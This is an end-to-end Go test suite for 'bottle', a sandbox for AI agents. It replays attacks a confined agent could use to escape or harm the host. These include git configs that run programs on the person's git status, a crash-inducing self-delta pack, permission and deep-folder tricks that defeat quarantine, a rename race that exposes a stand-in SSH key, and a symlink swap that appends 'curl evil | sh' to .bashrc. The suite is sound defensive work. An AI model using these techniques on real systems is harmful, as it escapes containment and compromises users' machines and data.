//go:build e2e

package main

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/bottle-sandbox/bottle/internal/hostiletest"
)

// Attacks an outside review of issue 19's change found (branch attack19),
// each played in a real bottle; each failed before its fix.

// The agent plants git metadata in its bind workspace (docs/.git, whose
// config runs a program on any git status) and, in its own git folder, a
// branch whose tip is a pack's delta on itself. At the session's end
// bottle reads the agent's branches with go-git before it quarantines
// what the agent planted: go-git recurses until the runtime kills bottle,
// the quarantine never runs, and the person's git status in docs runs the
// agent's program. Every later bottle command that settles dies too.
func TestSettleOutlivesACraftedGitFolder(t *testing.T) {
	e := newEnv(t, gitAgentBindConfig)
	gitImage(t, filepath.Join(e.dir, "gitimg"))
	gitWorkspace(t, e)
	marks := e.markDir()
	// The agent could write these bytes itself (printf); handing them over
	// in the workspace keeps the shell short.
	name, pack, idx := hostiletest.SelfDeltaPack()
	payload := filepath.Join(e.workdir, ".payload")
	os.MkdirAll(payload, 0o755)
	os.WriteFile(filepath.Join(payload, name+".pack"), pack, 0o644)
	os.WriteFile(filepath.Join(payload, name+".idx"), idx, 0o644)
	chownToOwner(t, e, e.workdir)
	out, errs, code := e.run("start", "--yes", "git", "--", strings.Join([]string{
		"cd /workspace",
		"mkdir -p docs/.git/objects docs/.git/refs && printf 'ref: refs/heads/main\\n' > docs/.git/HEAD",
		plantFSMonitor("docs/.git/config", marks, "after-settle"),
		"mkdir -p .git/objects/pack && cp .payload/* .git/objects/pack/ && echo " + hostiletest.SelfDeltaTip + " > .git/refs/heads/feature",
		"rm -rf .payload && echo planted",
	}, "; "))
	t.Logf("exit %d\n%s\n%s", code, out, lastLines(errs, 8))
	if !strings.Contains(out, "planted") {
		t.Fatalf("the agent could not even try:\n%s", out)
	}
	if strings.Contains(errs, "stack overflow") {
		t.Errorf("bottle died at the session's end (%s)", "fatal error: stack overflow")
	}
	if _, err := os.Lstat(filepath.Join(e.workdir, "docs", ".git")); err == nil {
		t.Errorf("docs/.git, planted by the agent, is still in the workspace after the session")
	}
	hostGitRunsNothing(t, e, filepath.Join(e.workdir, "docs"))
	states := e.states()
	for _, id := range states {
		_, errs, code := e.run("rm", id)
		if strings.Contains(errs, "stack overflow") {
			t.Errorf("bottle rm %s dies too (exit %d)", id, code)
		}
	}
	if _, errs, _ := e.run("gc"); strings.Contains(errs, "stack overflow") {
		t.Errorf("bottle gc dies too")
	}
	// Leave nothing behind for the harness's own checks: the state by hand.
	for _, id := range e.states() {
		os.RemoveAll(filepath.Join(e.rootDir(), id))
	}
}

// The workspace is no repository. The agent makes a .git at its top whose
// config runs a program on any git status, and a folder nested deeper than
// a path may name (20 folders of 250 letters, made by short renames). At the
// session's end the quarantine's walk fails on the deep folder
// (ENAMETOOLONG) before it moves anything: the .git stays, and the
// person's git status in their own working directory runs the program.
func TestQuarantineReachesAFolderTooDeepToName(t *testing.T) {
	e := newEnv(t, gitAgentBindConfig)
	gitImage(t, filepath.Join(e.dir, "gitimg"))
	os.WriteFile(filepath.Join(e.workdir, "notes.txt"), []byte("notes\n"), 0o644)
	chownToOwner(t, e, e.workdir)
	marks := e.markDir()
	long := strings.Repeat("d", 250)
	out, errs, code := e.run("start", "--yes", "git", "--", strings.Join([]string{
		"cd /workspace",
		"mkdir -p .git/objects .git/refs && printf 'ref: refs/heads/main\\n' > .git/HEAD",
		plantFSMonitor(".git/config", marks, "top"),
		// Built from the bottom up, each step a short rename: no path the
		// shell names is long, and zz ends 20 folders of 250 letters deep.
		"mkdir zz && for i in $(seq 20); do mkdir up && mv zz up/" + long + " && mv up zz || break; done && echo planted",
	}, "; "))
	t.Logf("exit %d\n%s\n%s", code, out, errs)
	if !strings.Contains(out, "planted") {
		t.Fatalf("the agent could not even try:\n%s", out)
	}
	if _, err := os.Lstat(filepath.Join(e.workdir, ".git")); err == nil {
		t.Errorf(".git, planted by the agent at the top of a workspace that was no repository, is still there after the session")
	}
	hostGitRunsNothing(t, e, e.workdir)
	for _, id := range e.states() {
		e.run("rm", id)
	}
	// the deep folder, for the test's own clean-up
	exec.Command("rm", "-rf", filepath.Join(e.workdir, "zz")).Run()
}

// Rootless, the agent is the person's own user: permission bits it sets
// stop the quarantine, where git goes on regardless.
//   - unreadable: the quarantine walks a folder it may not read as empty
//     ("what its owner cannot read, the owner's programs do not run
//     either"), but git needs only to search a folder, not to read it, to
//     find the .git in it: docs keeps its search bit only (chmod 111);
//   - unwritable: a folder that may not be written cannot lose an entry,
//     so the move of docs/.git out fails and the quarantine gives up
//     (chmod 555 docs).
//
// Rootful, bottle runs as root and does both anyway.
func TestQuarantineGivesThePersonsRightsBack(t *testing.T) {
	for _, mode := range []string{"111", "555"} {
		t.Run("chmod "+mode, func(t *testing.T) {
			e := newEnv(t, gitAgentBindConfig)
			gitImage(t, filepath.Join(e.dir, "gitimg"))
			os.WriteFile(filepath.Join(e.workdir, "notes.txt"), []byte("notes\n"), 0o644)
			chownToOwner(t, e, e.workdir)
			marks := e.markDir()
			out, errs, code := e.run("start", "--yes", "git", "--", strings.Join([]string{
				"cd /workspace",
				"mkdir -p docs/.git/objects docs/.git/refs && printf 'ref: refs/heads/main\\n' > docs/.git/HEAD",
				plantFSMonitor("docs/.git/config", marks, "chmod-"+mode),
				"chmod " + mode + " docs && echo planted",
			}, "; "))
			t.Logf("exit %d\n%s\n%s", code, out, errs)
			if !strings.Contains(out, "planted") {
				t.Fatalf("the agent could not even try:\n%s", out)
			}
			if fi, err := os.Lstat(filepath.Join(e.workdir, "docs", ".git")); err == nil {
				t.Errorf("docs/.git (%v), planted by the agent, is still in the workspace after the session (docs: chmod %s)", fi.Mode(), mode)
			}
			hostGitRunsNothing(t, e, filepath.Join(e.workdir, "docs"))
			os.Chmod(filepath.Join(e.workdir, "docs"), 0o755)
			for _, id := range e.states() {
				e.run("rm", id)
			}
		})
	}
}

// Two bottles on one working directory, which holds a nested repository
// (vendor/lib). Bottle A is kept; bottle B runs detached. When the person
// resumes A, A checks that no mount source in the working directory is
// reached through a link (mountsBeneath), then has Podman mount
// vendor/lib/.git read-only a moment later. B's agent watches vendor/lib
// with inotify: the host's every look at vendor/lib/.git opens that
// folder, and A's settle walks the workspace by name (a folder zz-sentinel
// last), so B knows when A's last check is done and, in one rename
// (RENAME_EXCHANGE), puts in vendor's place a folder whose lib/.git is a
// link out of the working directory; 3 s later it puts vendor back.
// Podman follows the link: A's agent gets a folder of the host's
// (standing for ~/.ssh) mounted in its container. And the person's real
// vendor/lib/.git, which A's agent should only have read, was never
// mounted over in A's container: A's agent writes its config (the same
// inode, so no settle sees a change), and the person's git status there
// runs A's program.
func TestSecondBottleCannotSwapANestedMountAfterTheCheck(t *testing.T) {
	e := newEnv(t, gitAgentBindConfig)
	gitImage(t, filepath.Join(e.dir, "gitimg"))
	nestedWorkspace(t, e)
	private := filepath.Join(e.dir, "private")
	os.MkdirAll(private, 0o755)
	os.WriteFile(filepath.Join(private, "id_ed25519"), []byte("HOST-SECRET-a19-ssh-key\n"), 0o644)
	buildA19Swap(t, filepath.Join(e.workdir, ".a19swap"))
	chownToOwner(t, e, e.workdir)
	mode := os.Getenv("A19_MODE") // "log" only logs
	if mode == "" {
		mode = "swap"
	}
	// A: its first start records the workspace; kept.
	_, errs, code := e.run("start", "--yes", "--keep", "git", "--", "true")
	if code != 0 {
		t.Fatalf("A's first start: exit %d\n%s", code, errs)
	}
	a := identityIn(t, errs)
	// B: on the same working directory, detached, its agent racing.
	out, errs, code := e.run("start", "--yes", "--detach", "git", "--", "exec /workspace/.a19swap /workspace/vendor/lib "+mode+" ../../../private")
	if code != 0 {
		t.Fatalf("B's start: exit %d\n%s\n%s", code, out, errs)
	}
	b := strings.TrimSpace(out)
	t.Logf("A %s, B %s", a, b)
	poll(t, 30*time.Second, "B's agent watching", func() bool {
		data, _ := os.ReadFile(filepath.Join(e.workdir, ".a19log"))
		return strings.Contains(string(data), "watching")
	})
	marks := e.markDir()
	out, errs, code = e.run("resume", "--yes", a, "--", strings.Join([]string{
		"cat /workspace/vendor/lib/.git/id_ed25519 /private/id_ed25519 2>&1",
		"sleep 6", // B has put vendor back
		"(" + plantFSMonitor("/workspace/vendor/lib/.git/config", marks, "recorded-nested") + ") 2>&1 && echo wrote-nested",
		"echo done",
	}, "; "))
	os.ReadDir(filepath.Join(e.workdir, "vendor", "lib")) // one more open: is B still watching?
	if os.Getenv("A19_DEBUG") != "" {
		dbg, _ := exec.Command("sh", "-c", "podman ps -a --format '{{.Names}} {{.Status}}'; podman exec bottle-"+b+"-agent sh -c 'ps; ls -la /workspace/vendor/lib /workspace; cat /proc/self/mountinfo | grep workspace; date'").CombinedOutput()
		t.Logf("debug:\n%s", dbg)
	}
	time.Sleep(500 * time.Millisecond)
	log, _ := os.ReadFile(filepath.Join(e.workdir, ".a19log"))
	t.Logf("A's resume: exit %d\n%s\n%s\nB's log:\n%s", code, out, errs, log)
	if strings.Contains(out, "HOST-SECRET-a19") {
		t.Errorf("A's agent read a folder of the host's that B's agent swapped in after A's check: %s", private)
	}
	if strings.Contains(out, "wrote-nested") {
		t.Errorf("A's agent wrote the config of the recorded nested repository vendor/lib/.git, which it should only have read")
	}
	if code == 0 || !strings.Contains(errs, "overlap") || !strings.Contains(errs, b) {
		t.Errorf("A's resume beside B, running in the same folder, was not refused naming B: exit %d", code)
	}
	hostGitRunsNothing(t, e, filepath.Join(e.workdir, "vendor", "lib"))
	e.run("rm", b)
	e.run("rm", a)
}

// A bottle A on a folder (app) inside another bottle B's bind workspace: a
// project and the folder of projects it lies in. B's agent replaces app
// with a link to a folder of the person's (standing for their home).
// Nothing of A looks at its working directory itself: its resume mounts
// what the link names as A's /workspace, read-write (the first start
// recorded no git metadata, so nothing is compared), and A's agent writes
// the person's .bashrc; then A's settle walks the person's folder for git
// metadata and moves their repositories' .git into A's quarantine.
func TestWorkdirReplacedByALinkIsNotMountedOnResume(t *testing.T) {
	e := newEnv(t, gitAgentBindConfig)
	gitImage(t, filepath.Join(e.dir, "gitimg"))
	app := filepath.Join(e.workdir, "app")
	os.MkdirAll(app, 0o755)
	os.WriteFile(filepath.Join(app, "main.go"), []byte("package main\n"), 0o644)
	// The person's home: a shell's start-up file, and a repository.
	home := filepath.Join(e.dir, "home")
	os.MkdirAll(filepath.Join(home, "code"), 0o755)
	os.WriteFile(filepath.Join(home, ".bashrc"), []byte("# the person's\n"), 0o644)
	hostGit(t, filepath.Join(home, "code"), "init", "-q")
	chownToOwner(t, e, e.workdir)
	chownToOwner(t, e, home)
	e.markDir()

	// A: a bottle on app, kept.
	cmd := e.command("start", "--yes", "--keep", "git", "--", "true")
	cmd.Dir = app
	var errb strings.Builder
	cmd.Stderr = &errb
	if err := cmd.Run(); err != nil {
		t.Fatalf("A's first start: %v\n%s", err, errb.String())
	}
	a := identityIn(t, errb.String())

	// B: a bottle on the folder app lies in; its agent swaps app for a link.
	out, errs, code := e.run("start", "--yes", "git", "--", "cd /workspace && mv app app.moved && ln -s ../home app && echo planted")
	t.Logf("B: exit %d\n%s\n%s", code, out, errs)
	if !strings.Contains(out, "planted") {
		t.Fatalf("B's agent could not even try")
	}

	out, errs, code = e.run("resume", "--yes", a, "--", "ls -a /workspace; echo 'curl evil | sh # A was here' >> /workspace/.bashrc && echo wrote")
	t.Logf("A's resume: exit %d\n%s\n%s", code, out, errs)
	if code == 0 || !strings.Contains(errs, "not the folder the bottle started in") {
		t.Errorf("A's resume through the link was not refused as such: exit %d", code)
	}
	if rc, _ := os.ReadFile(filepath.Join(home, ".bashrc")); strings.Contains(string(rc), "A was here") {
		t.Errorf("A's agent wrote the person's .bashrc: its resume mounted %s, which B's link named, as /workspace", home)
	}
	if _, err := os.Stat(filepath.Join(home, "code", ".git")); err != nil {
		t.Errorf("the person's repository %s lost its .git (%v): A's settle quarantined it", filepath.Join(home, "code"), err)
	}
	for _, id := range e.states() {
		e.run("rm", id)
	}
}

// The same link, and the person only removes bottle A: its settle walks
// the folder the link names for git metadata, moves each repository's .git
// into A's quarantine, and bottle rm then removes A's folder, quarantine
// and all. The person's repositories lose their history.
func TestRemovingABottleWalksNoLinkItsWorkdirBecame(t *testing.T) {
	e := newEnv(t, gitAgentBindConfig)
	gitImage(t, filepath.Join(e.dir, "gitimg"))
	app := filepath.Join(e.workdir, "app") // no repository (yet)
	os.MkdirAll(app, 0o755)
	os.WriteFile(filepath.Join(app, "main.go"), []byte("package main\n"), 0o644)
	home := filepath.Join(e.dir, "home")
	repo := filepath.Join(home, "code", "thesis")
	os.MkdirAll(repo, 0o755)
	hostGit(t, repo, "init", "-q")
	os.WriteFile(filepath.Join(repo, "ch1.tex"), []byte("chapter one\n"), 0o644)
	hostGit(t, repo, "add", "ch1.tex")
	hostGit(t, repo, "commit", "-qm", "three years of work")
	chownToOwner(t, e, e.workdir)
	chownToOwner(t, e, home)

	cmd := e.command("start", "--yes", "--keep", "git", "--", "true")
	cmd.Dir = app
	var errb strings.Builder
	cmd.Stderr = &errb
	if err := cmd.Run(); err != nil {
		t.Fatalf("A's first start: %v\n%s", err, errb.String())
	}
	a := identityIn(t, errb.String())
	out, errs, code := e.run("start", "--yes", "git", "--", "cd /workspace && mv app app.moved && ln -s ../home app && echo planted")
	t.Logf("B: exit %d\n%s\n%s", code, out, errs)
	if !strings.Contains(out, "planted") {
		t.Fatalf("B's agent could not even try")
	}
	out, errs, code = e.run("rm", a)
	t.Logf("bottle rm A: exit %d\n%s\n%s", code, out, errs)
	if _, err := os.Stat(filepath.Join(repo, ".git")); err != nil {
		t.Errorf("bottle rm of A took the .git of the person's repository %s (%v)", repo, err)
		if _, err := os.Stat(filepath.Join(e.rootDir(), a)); err != nil {
			t.Errorf("and A's folder, its quarantine with it, is gone: the history is lost")
		}
	}
	for _, id := range e.states() {
		e.run("rm", id)
	}
}
